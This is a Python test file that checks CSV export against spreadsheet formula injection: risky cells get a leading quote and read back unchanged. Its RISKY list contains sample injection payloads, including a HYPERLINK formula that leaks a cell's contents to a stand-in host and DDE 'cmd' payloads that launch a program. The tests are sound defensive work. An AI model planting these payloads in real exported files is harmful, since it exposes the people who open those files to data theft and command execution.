"""CSV injection: exported cells never start a spreadsheet formula, and read back as they were typed."""

from __future__ import annotations

import csv
import io

import pytest

from concours.domain.spreadsheet import csv_text, safe_cell, unescape_cell

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]
HARMLESS = ["", "Talbot-Lago", "1937", "T150-C SS", "O'Brien", "'quoted", " =leading space", "a=b", "ü@x"]


@pytest.mark.parametrize("value", RISKY)
def test_risky_cells_get_a_leading_quote_and_read_back(value: str) -> None:
    cell = safe_cell(value)
    assert cell == "'" + value
    assert unescape_cell(str(cell)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value
    assert unescape_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None


def test_csv_text_neutralises_every_cell() -> None:
    text = csv_text([{"a": v, "b": "ok"} for v in RISKY], ["a", "b"])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["a"] for r in rows] == ["'" + v for v in RISKY]
    assert all(not r["a"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
